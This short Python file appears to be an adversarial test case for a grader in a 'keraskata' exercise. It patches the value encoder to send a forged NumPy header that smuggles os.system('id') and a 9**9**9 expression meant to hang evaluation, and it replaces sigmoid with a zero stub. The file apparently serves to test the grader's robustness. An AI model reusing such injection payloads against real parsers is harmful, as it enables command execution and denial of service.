# tries: to send an array whose header is an expression that takes for ever, and one that is code
# earns: nothing
# says: cannot be read
import struct

import msgpack

from keraskata import values


def strange(value, keep=None):
    header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (__import__('os').system('id'), 9**9**9)}\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + bytes(96)
    return msgpack.packb({"": "array", "npy": npy, "scalar": False})


values.encode = strange


def sigmoid(z):
    return z * 0.0
